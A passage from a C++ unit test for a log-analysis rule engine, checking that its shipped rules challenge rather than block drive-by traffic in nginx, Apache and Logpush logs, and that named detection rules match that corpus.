                     "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03")}) {
    out.emplace_back(palisade::v1::LOG_FORMAT_APACHE_ERROR,
                     absl::StrCat("[Tue Mar 03 14:02:01.123456 2026] ", message));
  }
  out.emplace_back(palisade::v1::LOG_FORMAT_APACHE_ERROR,
                   absl::StrCat("[Tue Mar 03 14:02:01 2026] [error] [client ", client,
                                "] Invalid method in request \\x16\\x03\\x01"));
  return out;
}

// No blocking rule may match the drive-by corpus in the error logs and Logpush records either.
// The rules these lines are about must match them (as challenges), so the corpus reaches them.
TEST(PackTest, NoBlockingRuleMatchesADriveByInErrorLogsOrLogpush) {
  absl::StatusOr<std::shared_ptr<const RuleSet>> set = CompileShippedPacks();
  ASSERT_TRUE(set.ok()) << set.status();
  Engine engine(*set, EngineOptions());
  const absl::Time time = absl::FromUnixSeconds(1'772'000'000);
  std::map<std::string, int> matched;  // by rule id
  std::map<int, int> checked;          // by format
  for (const auto& entry : DriveByErrorAndEdgeLines()) {
    const palisade::v1::LogFormat format = entry.first;
    const std::string& line = entry.second;
    LineParser parser(format);
    ParsedLine parsed;
    ASSERT_TRUE(parser.Parse(line, time, &parsed).ok()) << line;
    engine.MatchOnly(
        format, parsed,
        [&](const CompiledRule& rule, absl::string_view) {
          ++matched[rule.id()];
          EXPECT_NE(rule.proto.decision().action(), palisade::v1::ACTION_BLOCK)
              << rule.pack << "/" << rule.id()
              << " blocks what a page can make its readers' browsers cause (challenge it): "
              << line;
        },
        time);
    ++checked[format];
  }
  EXPECT_GE(checked[palisade::v1::LOG_FORMAT_NGINX_ERROR], 300);
  EXPECT_GE(checked[palisade::v1::LOG_FORMAT_APACHE_ERROR], 400);
  EXPECT_GE(checked[palisade::v1::LOG_FORMAT_LOGPUSH_HTTP_REQUESTS], 100);
  EXPECT_GE(checked[palisade::v1::LOG_FORMAT_LOGPUSH_FIREWALL_EVENTS], 200);
  for (const char* id :
       {"nginx-error-botsearch", "nginx-error-forbidden", "nginx-error-limit-req",
        "apache-error-denied", "apache-error-noscript", "apache-error-nohome",
        "apache-error-botsearch", "apache-error-modsecurity", "apache-error-overflows",
        "cf-edge-credential-stuffing", "cf-edge-origin-denied", "cf-edge-waf-repeated"}) {
    EXPECT_GT(matched[id], 0) << id << " matches none of the corpus: it tests nothing there";
  }
}

}  // namespace
}  // namespace palisade
